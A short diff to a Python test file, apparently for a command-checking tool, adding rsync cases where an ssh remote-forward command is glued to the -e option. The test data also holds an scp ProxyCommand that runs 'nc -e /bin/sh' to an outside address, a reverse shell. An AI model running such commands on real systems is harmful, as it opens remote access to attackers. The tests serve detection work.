@@ -393,6 +393,8 @@ def test_xargs_with_a_delimiter_passes_each_item_whole():
     ("GIT_SSH_COMMAND='ssh -R 2222:localhost:22' git pull", "ssh", "-R"),
     ("rsync -e 'ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),
     ("rsync --rsh='ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),
+    ("rsync -e'ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),         # the value glued to -e
+    ("rsync -avze'ssh -R 2222:localhost:22' a u@h:b", "ssh", "-R"),
     ("scp -o ProxyCommand='nc -e /bin/sh 203.0.113.9 4444' a u@h:b", "nc", "-e"),
 ])
 def test_commands_carried_in_options_are_read(text, program, arg):
